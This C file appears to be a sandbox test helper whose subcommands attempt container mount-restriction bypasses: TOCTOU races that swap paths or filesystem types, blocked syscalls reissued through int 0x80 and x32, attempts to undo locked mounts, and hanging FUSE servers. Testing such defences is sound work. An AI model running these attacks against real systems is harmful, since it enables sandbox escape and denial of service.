/* Attacks that take more than one call after another: races, another ABI, namespaces found by enumeration, a FUSE server that hangs.
 *
 *	attack NAME [WORD...]
 *
 * Prints what came of it. What the host has to see is up to the test.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { SYS_OPEN_TREE = 428, SYS_MOVE_MOUNT, SYS_FSOPEN, SYS_FSCONFIG, SYS_FSMOUNT, SYS_FSPICK = 433, SYS_MOUNT_SETATTR = 442, SYS_PIVOT_ROOT = SYS_pivot_root };
enum { CALLS = 200 };	/* at least, however slow the machine */
#define FUSE_MAGIC 0x65735546
#define PROC_MAGIC 0x9fa0
#define RAMFS_MAGIC 0x858458f6

static const char *said(long ret)
{
	return ret < 0 ? strerrorname_np(errno) : "OK";
}

static double now(void)
{
	struct timespec at;

	clock_gettime(CLOCK_MONOTONIC, &at);
	return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
}

/* ---- A01, A02, A12: what was judged changes before the kernel reads it again ---- */

static _Atomic int over;
static char flipped[64];
static const char *flips[2];

static void *flip(void *unused)
{
	(void)unused;
	while (!over)
		for (int i = 0; i < 2; i++) {
			memcpy(flipped, flips[i], strlen(flips[i]) + 1);
			for (volatile int spin = 0; spin < 200; spin++)
				;
		}
	return NULL;
}

/* flip-target SECONDS WRITABLE PROTECTED: remounts of a target that flips; how often the protected one was writable. */
static int flip_target(char **w)
{
	pthread_t thread;
	long calls = 0, broken = 0;
	double until = now() + atof(w[0]);

	flips[0] = w[1];
	flips[1] = w[2];
	strcpy(flipped, w[1]);
	pthread_create(&thread, NULL, flip, NULL);
	for (; now() < until || calls < CALLS; calls++) {
		struct statvfs fs;

		mount(NULL, flipped, NULL, MS_REMOUNT | MS_BIND, NULL);
		broken += statvfs(w[2], &fs) < 0 || !(fs.f_flag & ST_RDONLY);
	}
	over = 1;
	pthread_join(thread, NULL);
	printf("writable %ld times\n", broken);
	return 0;
}

/* flip-type SECONDS TARGET: mounts of a type that flips between tmpfs and proc; how often a procfs without nodes came of it. */
static int flip_type(char **w)
{
	pthread_t thread;
	long calls = 0, trees = 0, raw = 0;
	double until = now() + atof(w[0]);
	char node[256];

	snprintf(node, sizeof(node), "%s/uptime", w[1]);
	flips[0] = "tmpfs";
	flips[1] = "proc";
	strcpy(flipped, "tmpfs");
	pthread_create(&thread, NULL, flip, NULL);
	for (; now() < until || calls < CALLS; calls++) {
		struct statfs at, below;

		if (mount("x", w[1], flipped, 0, NULL) < 0)
			continue;
		if (statfs(w[1], &at) == 0 && at.f_type == PROC_MAGIC) {
			trees++;
			raw += statfs(node, &below) < 0 || below.f_type != FUSE_MAGIC;
		}
		umount2(w[1], MNT_DETACH);
	}
	over = 1;
	pthread_join(thread, NULL);
	printf("%s, without nodes %ld\n", trees ? "trees" : "no tree", raw);
	return 0;
}

/* What is a name flips, and what it leads to: two links change places. */
static void *flip_places(void *link)
{
	char other[80];

	snprintf(other, sizeof(other), "%s.other", (char *)link);
	while (!over)
		for (int i = 0; i < 2; i++) {
			memcpy(flipped, flips[i], strlen(flips[i]) + 1);
			syscall(SYS_renameat2, AT_FDCWD, link, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
		}
	return NULL;
}

/* flip-place SECONDS FREE LISTED LINK [TARGET]: binds the two to TARGET; without that, mounts on them: how often each was free, and listed. */
static int flip_place(char **w)
{
	struct stat listed, at;
	pthread_t thread;
	long calls = 0, broken = 0, done = 0;
	double until = now() + atof(w[0]);

	flips[0] = w[1];
	flips[1] = w[2];
	strcpy(flipped, w[1]);
	stat(w[2], &listed);
	pthread_create(&thread, NULL, flip_places, w[3]);
	for (; now() < until || calls < CALLS; calls++) {
		const char *name = calls % 2 ? flipped : w[3];
		int tree = w[4] && calls % 3 == 0 ? (int)syscall(SYS_OPEN_TREE, AT_FDCWD, name, 1 | O_CLOEXEC) : -1;

		if (tree >= 0)
			broken += fstat(tree, &at) < 0 || at.st_ino == listed.st_ino;
		close(tree);
		if (w[4] ? mount(name, w[4], NULL, MS_BIND | (calls % 4 < 2 ? MS_REC : 0), NULL) : mount("x", name, "tmpfs", 0, NULL))
			continue;
		done++;
		broken += stat(w[4] ? w[4] : w[2], &at) < 0 || (at.st_ino == listed.st_ino) == !!w[4];
		umount2(w[4] ? w[4] : w[1], MNT_DETACH);
	}
	over = 1;
	pthread_join(thread, NULL);
	printf("%s, listed %ld\n", done ? "free" : "none", broken);
	return 0;
}

static pthread_mutex_t still = PTHREAD_MUTEX_INITIALIZER;

static void *flip_into(void *opaque)
{
	char **w = opaque;

	for (int in = 1; !over; in = !in) {
		pthread_mutex_lock(&still);
		rename(w[in ? 2 : 3], w[in ? 3 : 2]);
		pthread_mutex_unlock(&still);
		usleep((useconds_t)(random() % (in ? 300 : 3000)));
	}
	return NULL;
}

/* flip-into SECONDS SOURCE OUTSIDE INSIDE TARGET FILE: SOURCE, which has mounts below it, is bound recursively while the directory OUTSIDE,
 * with a listed volume in it, goes to INSIDE and back; how often it was copied, and FILE, of the volume, was to be seen in the copy. */
static int flip_into_source(char **w)
{
	pthread_t thread;
	long copies = 0, listed = 0;
	double until = now() + atof(w[0]);

	pthread_create(&thread, NULL, flip_into, w);
	while ((now() < until || copies < 5) && now() < until + 20) {
		if (mount(w[1], w[4], NULL, MS_BIND | MS_REC, NULL))
			continue;
		pthread_mutex_lock(&still);
		rename(w[2], w[3]);
		copies++;
		listed += access(w[5], F_OK) == 0;
		umount2(w[4], MNT_DETACH);
		pthread_mutex_unlock(&still);
	}
	over = 1;
	pthread_join(thread, NULL);
	printf("%s, listed %ld\n", copies ? "copied" : "none", listed);
	return 0;
}

/* flip-denied SECONDS TARGET: mounts of a type that flips between tmpfs and ramfs, by both ways; how often each came of it. */
static int flip_denied(char **w)
{
	pthread_t thread;
	long calls = 0, ramfs = 0, tmpfs = 0;
	double until = now() + atof(w[0]);

	flips[0] = "tmpfs";
	flips[1] = "ramfs";
	strcpy(flipped, "tmpfs");
	pthread_create(&thread, NULL, flip, NULL);
	for (; now() < until || calls < CALLS; calls++) {
		int context = (int)syscall(430 /* fsopen */, flipped, 0), mounted = -1;
		struct statfs at;

		if (context >= 0 && syscall(431 /* fsconfig */, context, 6 /* CREATE */, NULL, NULL, 0) == 0)
			mounted = (int)syscall(432 /* fsmount */, context, 0, 0);
		if (mounted >= 0 && fstatfs(mounted, &at) == 0)
			*(at.f_type == RAMFS_MAGIC ? &ramfs : &tmpfs) += 1;
		close(mounted);
		close(context);
		if (mount("x", w[1], flipped, 0, NULL) < 0)
			continue;
		if (statfs(w[1], &at) == 0)
			*(at.f_type == RAMFS_MAGIC ? &ramfs : &tmpfs) += 1;
		umount2(w[1], MNT_DETACH);
	}
	over = 1;
	pthread_join(thread, NULL);
	printf("%s, ramfs %ld\n", tmpfs ? "tmpfs" : "no tmpfs", ramfs);
	return 0;
}

static int walker(void *opaque)
{
	char **w = opaque;

	while (!over) {
		if (chdir(w[1]) < 0 || chdir(w[2]) < 0)
			return 1;
	}
	return 0;
}

/* flip-cwd SECONDS WRITABLE PROTECTED: the working directory, shared with a thread, flips while "." is remounted and unmounted. */
static int flip_cwd(char **w)
{
	static char stack[65536] __attribute__((aligned(16)));
	pid_t pid = clone(walker, stack + sizeof(stack), CLONE_VM | CLONE_FS | SIGCHLD, w);
	long calls = 0, broken = 0;
	double until = now() + atof(w[0]);

	if (pid < 0)
		return 1;
	for (; now() < until || calls < CALLS; calls++) {
		struct statvfs fs;

		mount(NULL, ".", NULL, MS_REMOUNT | MS_BIND, NULL);
		umount2(".", 0);
		broken += statvfs(w[2], &fs) < 0 || !(fs.f_flag & ST_RDONLY);
	}
	over = 1;
	waitpid(pid, NULL, 0);
	printf("writable or gone %ld times\n", broken);
	return 0;
}

/* ---- D01 to D03: other ABIs ---- */

static long int80(long nr, long a, long b, long c, long d, long e)
{
	long ret;

	__asm__ volatile("push %%rbp\n\tmov %7, %%rbp\n\tint $0x80\n\tpop %%rbp"
			 : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), "r"(0L) : "memory", "r8", "r9", "r10", "r11");
	if (ret < 0 && ret > -4096) {
		errno = (int)-ret;
		return -1;
	}
	return ret;
}

static char *low(const char *text)
{
	static char *area;
	char *copy;

	if (!area)
		area = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	copy = area;
	area += strlen(text) + 1;
	return strcpy(copy, text);
}

/* abis PROTECTED TARGET: each door once more by int 0x80 and as x32. */
static int abis(char **w)
{
	long none = (long)low(""), ro = (long)low(w[0]), t = (long)low(w[1]), proc = (long)low("proc"), node = (long)low("/proc/uptime");
	const struct { const char *name; long nr, a, b, c, d; } calls[] = {
		{ "mount remount", 21, none, ro, none, MS_REMOUNT | MS_BIND }, { "oldumount node", 22, node, 0, 0, 0 },
		{ "umount2 node", 52, node, 0, 0, 0 }, { "umount2 protected detach", 52, ro, MNT_DETACH, 0, 0 },
		{ "oldumount protected", 22, ro, 0, 0, 0 }, { "bind proc", 21, proc, t, none, MS_BIND },
		{ "unshare bad", 310, 1, 0, 0, 0 }, { "setns bad", 346, 9999, 0, 0, 0 }, { "open_tree", 428, -100, (long)low("/proc"), 1, 0 },
		{ "syslog", 103, 10, 0, 0, 0 }, { "bpf", 357, 0, 0, 0, 0 }, { "init_module", 128, 0, 0, 0, 0 },
	};
	const struct { const char *name; long nr; } x32[] = { { "mount", 165 }, { "umount2", 166 }, { "unshare", 272 }, { "setns", 308 },
							      { "fsopen", 430 }, { "bpf", 321 } };
	struct statfs fs;

	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++)
		printf("%s: %s\n", calls[i].name, said(int80(calls[i].nr, calls[i].a, calls[i].b, calls[i].c, calls[i].d, 0)));
	printf("mount proc: %s\n", said(int80(21, proc, t, proc, 0, 0)));
	printf("it is %s\n", statfs("/t/uptime", &fs) == 0 && fs.f_type == FUSE_MAGIC ? "virtual" : "not virtual");
	printf("oldumount of it: %s\n", said(int80(22, t, 0, 0, 0, 0)));
	for (size_t i = 0; i < sizeof(x32) / sizeof(x32[0]); i++)
		printf("x32 %s: %s\n", x32[i].name, said(syscall(x32[i].nr + 0x40000000, 0, 0, 0, 0, 0)));
	return 0;
}

/* ---- F, D06 to D08: what is locked, by each call that could undo it ---- */

struct mount_attributes { uint64_t set, clear, propagation, userns; };

static long attributes(const char *path, uint64_t set, uint64_t clear, uint64_t propagation, int userns, unsigned int flags)
{
	struct mount_attributes wanted = { set, clear, propagation, (uint64_t)userns };

	return syscall(SYS_MOUNT_SETATTR, AT_FDCWD, path, flags, &wanted, sizeof(wanted));
}

static long reconfigure(const char *path, const char *flag)
{
	int fs = (int)syscall(SYS_FSPICK, AT_FDCWD, path, 1);
	long ret = fs < 0 ? -1 : syscall(SYS_FSCONFIG, fs, 0, flag, NULL, 0);

	return ret < 0 ? ret : syscall(SYS_FSCONFIG, fs, 7, NULL, NULL, 0);
}

/* A copy without what is locked above it would show the kernel's own file: negative if it was refused, or is complete. */
static long revealed(long ret, const char *format)
{
	struct statfs fs;
	char node[64];

	snprintf(node, sizeof(node), format, ret);
	return ret < 0 || (statfs(node, &fs) == 0 && fs.f_type == FUSE_MAGIC) ? -1 : 0;
}

/* locked RO NODE: RO is a read-only volume, NODE a virtual file. One line for each call that was not refused. */
static int locked(char **w)
{
	static const int umounts[] = { 0, MNT_FORCE, MNT_DETACH, MNT_EXPIRE, UMOUNT_NOFOLLOW, MNT_DETACH | MNT_FORCE };
	static const unsigned long remounts[] = { 0, MS_MOVE, MS_SHARED, MS_PRIVATE | MS_REC, MS_REC, MS_SILENT, 0xC0ED0000, 1ul << 22, MS_NOATIME };
	const char *const paths[] = { w[0], w[1] };
	int userns = open("/proc/self/ns/user", O_RDONLY | O_CLOEXEC), tried = 0;

#define REFUSED(call) do { tried++; if ((call) >= 0) printf("%s on %s\n", #call, path); } while (0)
	for (int i = 0; i < 2; i++) {
		const char *path = paths[i];

		for (size_t k = 0; k < sizeof(umounts) / sizeof(*umounts); k++)
			REFUSED(umount2(path, umounts[k]));
		REFUSED(umount2(path, MNT_EXPIRE));
		REFUSED(mount(path, "/tmp", NULL, MS_MOVE, NULL));
		REFUSED(attributes(path, 0, 1, 0, 0, 0) < 0 || i ? -1 : 0);
		REFUSED(attributes(path, 1 << 20, 0, 0, userns, 0));
		REFUSED(attributes(path, 0x10, 0x70, 0, 0, 0));
		REFUSED(reconfigure(path, "rw"));
		REFUSED(reconfigure(path, "ro"));
	}
	for (size_t k = 0; k < sizeof(remounts) / sizeof(*remounts); k++) {
		const char *path = w[0];

		REFUSED(mount(NULL, path, NULL, MS_REMOUNT | MS_BIND | remounts[k], NULL));
		REFUSED(mount(NULL, path, NULL, MS_REMOUNT | remounts[k], NULL));
	}
	for (const char *path = "/"; path; path = NULL) {
		REFUSED(umount2(path, MNT_DETACH));
		REFUSED(attributes(path, 0, 1, 0, 0, 0x8000));
		REFUSED(attributes(path, 1 << 20, 0, 0, userns, 0));
		REFUSED(reconfigure(path, "ro"));
		REFUSED(revealed(mount("/proc", "/tmp", NULL, MS_BIND, NULL), "/tmp/uptime"));
		REFUSED(revealed(syscall(SYS_OPEN_TREE, AT_FDCWD, "/proc", 1), "/proc/self/fd/%ld/uptime"));
		REFUSED(revealed(syscall(SYS_OPEN_TREE, AT_FDCWD, path, 1), "/proc/self/fd/%ld/proc/uptime"));
		REFUSED(open(w[0], O_TMPFILE | O_RDWR, 0600));
		REFUSED(chmod(w[0], 0700));
		REFUSED(syscall(SYS_PIVOT_ROOT, w[0], w[0]));
	}
	printf("%d tried\n", tried);
	return 0;
}

/* handles: a namespace by its handle, which can be guessed. */
static int handles(char **w)
{
	struct { struct file_handle head; char body[128]; } own = { .head.handle_bytes = 128 };
	int mount_id;

	(void)w;
	if (name_to_handle_at(AT_FDCWD, "/proc/self/ns/mnt", &own.head, &mount_id, AT_SYMLINK_FOLLOW) < 0)
		printf("no handle: %s\n", said(-1));
	printf("%s\n", said(open_by_handle_at(-10003 /* FD_NSFS_ROOT */, &own.head, O_RDONLY)));
	return 0;
}

/* ---- E10: FUSE servers of the container's own that never answer one kind of request ---- */

static _Atomic uint32_t unanswered;
static _Atomic int ours_are_answered;	/* those of this pid namespace */
static _Atomic uint64_t withheld;	/* the last such request */
static int fuse = -1;

/* What it shows is a directory; every name in it is one file. */
static void *serve_fuse(void *unused)
{
	const struct fuse_attr directory = { .ino = 1, .mode = 040755, .nlink = 2 }, file = { .ino = 2, .mode = 0100644, .nlink = 1 };
	static char buffer[1 << 18];

	(void)unused;
	while (read(fuse, buffer, sizeof(buffer)) > 0) {
		struct fuse_in_header *in = (struct fuse_in_header *)buffer;
		struct {
			struct fuse_out_header header;
			union {
				struct fuse_init_out init;
				struct fuse_attr_out attr;
				struct fuse_entry_out entry;
				struct fuse_open_out open;
			} body;
		} out = { .header = { .unique = in->unique, .len = sizeof(out.header) } };

		if (in->opcode == FUSE_FORGET || in->opcode == FUSE_INTERRUPT)
			continue;
		if (in->opcode == unanswered && !(in->pid && ours_are_answered)) {
			withheld = in->unique;
			continue;
		} else if (in->opcode == FUSE_INIT) {
			out.body.init = (struct fuse_init_out){ .major = 7, .minor = 31, .max_write = 4096 };
			out.header.len += sizeof(out.body.init);
		} else if (in->opcode == FUSE_GETATTR) {
			out.body.attr = (struct fuse_attr_out){ .attr_valid = 100, .attr = in->nodeid == 1 ? directory : file };
			out.header.len += sizeof(out.body.attr);
		} else if (in->opcode == FUSE_LOOKUP) {
			out.body.entry = (struct fuse_entry_out){ .nodeid = 2, .attr_valid = 100, .entry_valid = 100, .attr = file };
			out.header.len += sizeof(out.body.entry);
		} else if (in->opcode == FUSE_ACCESS || in->opcode == FUSE_FLUSH) {
			;
		} else if (in->opcode == FUSE_OPEN) {
			out.header.len += sizeof(out.body.open);
		} else {
			out.header.error = -ENOSYS;
		}
		if (write(fuse, &out, out.header.len) < 0)
			break;
	}
	return NULL;
}

static int mounted_fuse(const char *target, uint32_t opcode)
{
	const char *const options[][2] = { { "rootmode", "40000" }, { "user_id", "0" }, { "group_id", "0" }, { "fd" } };
	int context = (int)syscall(SYS_FSOPEN, "fuse", 0);
	char number[16];
	pthread_t thread;

	fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	unanswered = opcode;
	snprintf(number, sizeof(number), "%d", fuse);
	for (size_t i = 0; i < sizeof(options) / sizeof(options[0]); i++)
		syscall(SYS_FSCONFIG, context, 1, options[i][0], options[i][1] ? options[i][1] : number, 0);
	syscall(SYS_FSCONFIG, context, 6, NULL, NULL, 0);
	if (syscall(SYS_MOVE_MOUNT, syscall(SYS_FSMOUNT, context, 0, 0), "", AT_FDCWD, target, 4) == 0)
		return pthread_create(&thread, NULL, serve_fuse, NULL) == 0;
	printf("fuse: %s\n", said(-1));
	return 0;
}

static int mounts_elsewhere(const char *target, double start)
{
	printf("in time: %s\n", now() - start < 6 ? "yes" : "no");
	printf("mount elsewhere: %s\n", said(mount("x", target, "proc", 0, NULL)));
	printf("umount elsewhere: %s\n", said(umount2(target, 0)));
	fflush(stdout);
	_exit(0);
}

/* fuse-hang TARGET OTHER: a mount and an umount below a server that hangs, then one elsewhere. */
static int fuse_hang(char **w)
{
	double start = now();
	char below[256];

	snprintf(below, sizeof(below), "%s/a/b", w[0]);
	if (!mounted_fuse(w[0], FUSE_LOOKUP))
		return 1;
	printf("mount below: %s\n", said(mount("x", below, "proc", 0, NULL)));
	return mounts_elsewhere(w[1], start);
}

/* fuse-cwd TARGET OTHER: a mount from a directory whose server answers only once the mount has come back, then one elsewhere. */
static int fuse_cwd(char **w)
{
	double start = now();

	if (!mounted_fuse(w[0], 0) || chdir(w[0]) < 0)
		return 1;
	unanswered = FUSE_ACCESS;
	printf("mount below: %s\n", said(mount("x", ".", "proc", 0, "hidepid=0")));
	unanswered = 0;
	if (write(fuse, &(struct fuse_out_header){ .unique = withheld, .len = sizeof(struct fuse_out_header) }, sizeof(struct fuse_out_header)) < 0)
		printf("answer: %s\n", said(-1));
	printf("in time: %s\n", now() - start < 6 ? "yes" : "no");
	fflush(stdout);
	pause();
	return 0;
}

/* fuse-flush TARGET OTHER: a clone of a file whose server lets nobody close it, then a mount elsewhere. */
static int fuse_flush(char **w)
{
	double start = now();
	char file[256];

	snprintf(file, sizeof(file), "%s/file", w[0]);
	if (!mounted_fuse(w[0], FUSE_FLUSH))
		return 1;
	printf("clone: %s\n", said((int)syscall(SYS_OPEN_TREE, AT_FDCWD, file, 1)));
	return mounts_elsewhere(w[1], start);
}

static int number, swapped[2];

static void *swap(void *unused)
{
	(void)unused;
	for (int i = 0; !over; i++)
		dup2(swapped[i % 2], number);
	return NULL;
}

/* Until one fails by anything but EINVAL. Without /dev/fuse: who is its own server could not end, because to end is to close. */
static void fsmounts(const char *file, const char *other)
{
	double start = now();
	pthread_t thread;

	close(fuse);
	swapped[0] = (int)syscall(SYS_FSOPEN, "tmpfs", 0);
	swapped[1] = open(file, O_RDONLY);
	number = dup(swapped[0]);
	pthread_create(&thread, NULL, swap, NULL);
	while (syscall(SYS_FSMOUNT, number, 0, 0) < 0 && errno == EINVAL && now() - start < 60)
		;
	printf("fsmount: %s\n", said(-1));
	over = 1;
	pthread_join(thread, NULL);
	mounts_elsewhere(other, now());
}

/* fuse-swap TARGET OTHER: fsmounts of a context that is swapped for a file, whose server lets nobody from outside close it. */
static int fuse_swap(char **w)
{
	char file[256];
	pid_t pid;

	snprintf(file, sizeof(file), "%s/file", w[0]);
	ours_are_answered = 1;
	if (!mounted_fuse(w[0], FUSE_FLUSH))
		return 1;
	pid = fork();
	if (pid == 0)
		fsmounts(file, w[1]);
	while (!withheld && waitpid(pid, NULL, WNOHANG) == 0)
		usleep(1000);
	printf("withheld\n");
	fflush(stdout);
	return waitpid(pid, NULL, 0) < 0;
}

static const struct {
	const char *name;
	int words;
	int (*run)(char **words);
} ATTACKS[] = {
	{ "flip-target", 3, flip_target }, { "flip-type", 2, flip_type }, { "flip-denied", 2, flip_denied }, { "flip-place", 4, flip_place },
	{ "flip-into", 6, flip_into_source },
	{ "flip-cwd", 3, flip_cwd }, { "abis", 2, abis },
	{ "fuse-hang", 2, fuse_hang }, { "fuse-flush", 2, fuse_flush }, { "fuse-cwd", 2, fuse_cwd }, { "fuse-swap", 2, fuse_swap },
	{ "locked", 2, locked }, { "handles", 0, handles },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(ATTACKS) / sizeof(ATTACKS[0]); i++)
		if (!strcmp(ATTACKS[i].name, argv[1]) && argc - 2 >= ATTACKS[i].words)
			return ATTACKS[i].run(argv + 2);
	fprintf(stderr, "attack: no such attack, or too few words\n");
	return 2;
}
